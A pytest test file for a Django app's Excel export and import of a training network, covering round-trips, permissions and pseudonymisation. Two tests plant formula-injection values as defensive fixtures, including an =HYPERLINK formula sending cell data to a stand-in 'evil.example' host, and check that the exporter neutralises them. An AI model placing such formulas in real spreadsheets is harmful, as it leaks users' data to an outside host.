import datetime

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied

from cascade.access import operator
from cascade.lib.pseudonyms import pseudonym
from cascade.curriculum.models import Edition, Manual, ManualSession
from cascade.network.models import Membership, Organization, Person
from cascade.spreadsheets import exporter
from cascade.spreadsheets.schema import SHEETS
from cascade.spreadsheets.services import export_workbook, import_workbook, write_template
from cascade.trainings.models import Participation, Training, TrainingSession


def snapshot() -> dict:
    """The network as comparable data, by key (database ids differ after a re-import)."""
    return {
        "organizations": sorted(
            (o.key, o.name, o.kind, o.country_id, o.city, o.short_name, sorted(o.names.items()),
             sorted(o.short_names.items()))
            for o in Organization.objects.all()
        ),
        "people": sorted(
            (p.key, p.full_name, p.gender, p.country_id, p.city, p.organization.key if p.organization else None,
             p.email, p.phone)
            for p in Person.objects.select_related("organization")
        ),
        "manuals": sorted((m.key, sorted(m.title.items()), m.languages) for m in Manual.objects.all()),
        "trainings": sorted(
            (t.key, sorted(t.title.items()), t.kind, t.start_date, t.end_date, t.country_id, t.city,
             t.host.key if t.host else None, sorted(o.key for o in t.co_organisers.all()), t.language,
             sorted(m.key for m in t.manuals.all()), t.source_training.key if t.source_training else None,
             t.women_count, t.men_count, t.other_count)
            for t in Training.objects.all()
        ),
        "participants": sorted(
            Participation.objects.values_list("training__key", "person__key", "role", "completed")
        ),
        "memberships": sorted(
            (m.person.key, m.organization.key, sorted(m.title.items()), m.start_date, m.end_date)
            for m in Membership.objects.select_related("person", "organization")
        ),
        "manual_sessions": sorted(
            (s.manual.key, s.number, sorted(s.title.items()), s.part, sorted(s.part_title.items()), s.kind)
            for s in ManualSession.objects.select_related("manual")
        ),
        "editions": sorted(
            (e.manual.key, e.language, e.variant, e.title, e.year, e.url)
            for e in Edition.objects.select_related("manual")
        ),
        "sessions": sorted(
            (s.training.key, s.order, sorted(s.title.items()), s.date,
             (s.manual_session.manual.key, s.manual_session.number) if s.manual_session else None,
             sorted(p.key for p in s.facilitators.all()))
            for s in TrainingSession.objects.select_related("training", "manual_session__manual")
        ),
    }


def build_network(create_organization, create_person, create_manual, create_training):
    swrc = create_organization(key="swrc", name="Shymkent Women's Resource Center", city="Shymkent")
    osce = create_organization(key="osce", name="Organization for Security and Co-operation in Europe",
                               short_name="OSCE", kind="co-organiser", country_id="AT",
                               names={"ru": "Организация по безопасности и сотрудничеству в Европе"},
                               short_names={"ru": "ОБСЕ", "kk": "ЕҚЫҰ"})
    create_organization(key="=cmd", name="@risky -name", kind="funder", country_id="GE", city="+Tbilisi")
    manual = create_manual(key="ltc", title={"en": "Leading to Choices", "ru": "Выбор лидерства"})
    for language in ("en", "ru", "ky"):
        Edition.objects.create(manual=manual, language=language)
    Edition.objects.filter(manual=manual, language="ru").update(
        title="Выбор лидерства", year=2004, url="https://example.org/ltc-ru.pdf")
    opening = ManualSession.objects.create(
        manual=manual, number=1, title={"en": "Communicating for change", "ru": "Общение ради перемен"},
        part="1", part_title={"en": "Communication", "ru": "Общение"}, kind="discussion")
    consensus = ManualSession.objects.create(manual=manual, number=2, title={"ru": "Консенсус"}, kind="exercise")
    lta = create_manual(key="lta", title={"ar": "القيادة من أجل العمل"})
    Edition.objects.create(manual=lta, language="ar", variant="Maghrebi", year=2012)
    ManualSession.objects.create(manual=lta, number=1, title={"ar": "التواصل"}, part="I", part_title={"ar": "الجزء"})
    aigul = create_person(key="p-aigul", full_name="Aigul Testova", organization=swrc,
                          email="aigul@example.org", phone="+7 700 000 0001")
    nino = create_person(key="p-nino", full_name="'Nino' Example", country_id="GE", gender="not stated")
    institute = create_training(
        key="inst-2019", title={"ru": "Шымкент 2019", "en": "Shymkent 2019"}, language="ru",
        start_date=datetime.date(2019, 1, 28), end_date=datetime.date(2019, 1, 30), host=swrc,
        participants=[aigul], facilitators=[nino], manuals=[manual],
    )
    institute.co_organisers.set([osce])
    step_down = create_training(
        key="sd-1", kind="step-down", title={"kk": "Түркістан"}, language="kk", source_training=institute,
        start_date=datetime.date(2019, 3, 2), city="Turkestan", women_count=14, men_count=3,
        facilitators=[aigul],
    )
    Participation.objects.create(training=step_down, person=nino, role="organiser", completed=False)
    Membership.objects.create(person=aigul, organization=swrc, title={"en": "President", "ru": "Президент"},
                              start_date=datetime.date(2015, 3, 1))
    Membership.objects.create(person=nino, organization=osce, title={}, start_date=datetime.date(2010, 1, 1),
                              end_date=datetime.date(2012, 12, 31))
    first = TrainingSession.objects.create(training=institute, order=1, date=datetime.date(2019, 1, 28),
                                           manual_session=opening)
    first.facilitators.set([nino, aigul])
    TrainingSession.objects.create(training=institute, order=2, title={"ru": "Обед", "en": "Lunch"})
    TrainingSession.objects.create(training=step_down, order=0, title={"kk": "Консенсус"},
                                   manual_session=consensus).facilitators.set([aigul])


def test_export_then_import_into_an_empty_database_reproduces_the_network(
    tmp_path, create_organization, create_person, create_manual, create_training,
):
    build_network(create_organization, create_person, create_manual, create_training)
    before = snapshot()
    path = tmp_path / "network.xlsx"
    export_workbook(path, operator())
    for model in (Participation, TrainingSession, Training, Edition, ManualSession, Manual, Membership, Person,
                  Organization):
        model.objects.all().delete()

    result = import_workbook(path, operator())

    assert result.ok, [str(e) for e in result.errors]
    assert snapshot() == before
    assert before["sessions"] and before["memberships"] and before["manual_sessions"]

    again = import_workbook(path, operator())

    assert again.ok and snapshot() == before
    assert all(counts["created"] == 0 for counts in again.counts.values())


def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    tmp_path, create_organization, create_person, create_manual, create_training,
):
    build_network(create_organization, create_person, create_manual, create_training)
    path = tmp_path / "network.xlsx"
    export_workbook(path, operator())

    sheet = openpyxl.load_workbook(path)["organizations"]
    risky = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "'=cmd")
    assert [cell.value for cell in risky][:6] == ["'=cmd", "'@risky -name", "funder", "GE", "'+Tbilisi", None]
    assert all(cell.data_type == "s" for cell in sheet["A"])
    people = openpyxl.load_workbook(path)["people"]
    assert "'+7 700 000 0001" in [cell.value for cell in people["H"]]


def test_export_writes_extra_title_columns_for_other_languages(
    tmp_path, create_organization, create_person, create_manual, create_training,
):
    build_network(create_organization, create_person, create_manual, create_training)
    path = tmp_path / "network.xlsx"
    export_workbook(path, operator())

    rows = list(openpyxl.load_workbook(path)["trainings"].values)
    header = rows[0]
    assert header[-3:] == ("title_en", "title_kk", "title_ru")
    institute = dict(zip(header, next(row for row in rows if row[0] == "inst-2019")))
    assert (institute["title"], institute["title_en"], institute["title_ru"]) == ("Шымкент 2019", "Shymkent 2019", "Шымкент 2019")


def test_the_template_has_a_sheet_per_table_with_its_header_and_instructions(tmp_path):
    path = tmp_path / "template.xlsx"
    write_template(path)

    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["instructions", *(sheet.name for sheet in SHEETS)]
    for sheet in SHEETS:
        header = next(book[sheet.name].iter_rows(max_row=1))
        assert tuple(cell.value for cell in header) == sheet.column_names
        assert {cell.value for cell in header if cell.comment} == set(sheet.required)
    explained = {(row[0], row[1]) for row in book["instructions"].iter_rows(min_row=2, values_only=True)}
    assert all((sheet.name, column) in explained for sheet in SHEETS for column in sheet.column_names)


def test_the_empty_template_imports_without_changing_anything(tmp_path, db):
    path = tmp_path / "template.xlsx"
    write_template(path)

    result = import_workbook(path, operator())

    assert result.ok and not result.warnings
    assert all(counts == {"created": 0, "changed": 0, "unchanged": 0} for counts in result.counts.values())


def test_a_donor_may_not_export_and_the_scoping_underneath_holds_no_names(tmp_path, create_organization, create_person, create_manual,
                                             create_training, django_user_model):
    from cascade.accounts.models import Role

    build_network(create_organization, create_person, create_manual, create_training)
    donor = django_user_model.objects.create_user("dora", password="a-long-pass-phrase")
    Role.objects.create(user=donor, kind=Role.Kind.DONOR)

    with pytest.raises(PermissionDenied):
        export_workbook(tmp_path / "refused.xlsx", donor)
    assert not (tmp_path / "refused.xlsx").exists()

    counts = exporter.export_workbook(tmp_path / "donor.xlsx", user=donor)  # the scoping underneath, too

    assert (counts["people"], counts["participants"], counts["memberships"]) == (0, 0, 0)
    agenda = list(openpyxl.load_workbook(tmp_path / "donor.xlsx")["sessions"].values)
    assert {row[0] for row in agenda[1:]} == {"inst-2019", "sd-1"}
    assert all(not row[agenda[0].index("facilitators")] for row in agenda[1:])


def test_a_pseudonymised_export_names_nobody_in_roles_and_agendas(
    tmp_path, create_organization, create_person, create_manual, create_training,
):
    build_network(create_organization, create_person, create_manual, create_training)
    path = tmp_path / "evaluators.xlsx"

    export_workbook(path, operator(), pseudonymise=True)

    book = openpyxl.load_workbook(path)
    cells = {str(cell) for sheet in book.worksheets for row in sheet.values for cell in row if cell is not None}
    assert not {"p-aigul", "p-nino", "Aigul Testova", "'Nino' Example"} & cells
    assert not any("p-aigul" in cell or "p-nino" in cell for cell in cells)
    aigul, nino = pseudonym("person", "p-aigul"), pseudonym("person", "p-nino")
    memberships = list(book["memberships"].values)
    assert memberships[1:] == [], "a role names its holder: no roles in a pseudonymised export"
    rows = list(book["sessions"].values)
    agenda = [dict(zip(rows[0], row)) for row in rows[1:]]
    assert {row["facilitators"] for row in agenda} == {";".join(sorted([aigul, nino])), None, aigul}


def test_no_cell_of_the_export_is_a_formula_whatever_people_typed(
    tmp_path, create_organization, create_person, create_manual, create_training,
):
    import zipfile

    build_network(create_organization, create_person, create_manual, create_training)
    create_person(key="p-risky", full_name='=HYPERLINK("http://evil.example/?"&A1)', city="-1+1", phone="\t=1")
    path = tmp_path / "network.xlsx"
    export_workbook(path, operator())

    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert len(sheets) > 5 and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    book = openpyxl.load_workbook(path)
    risky = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and "evil.example" in cell.value]
    assert [(cell.value, cell.data_type) for cell in risky] == [("'=HYPERLINK(\"http://evil.example/?\"&A1)", "s")]
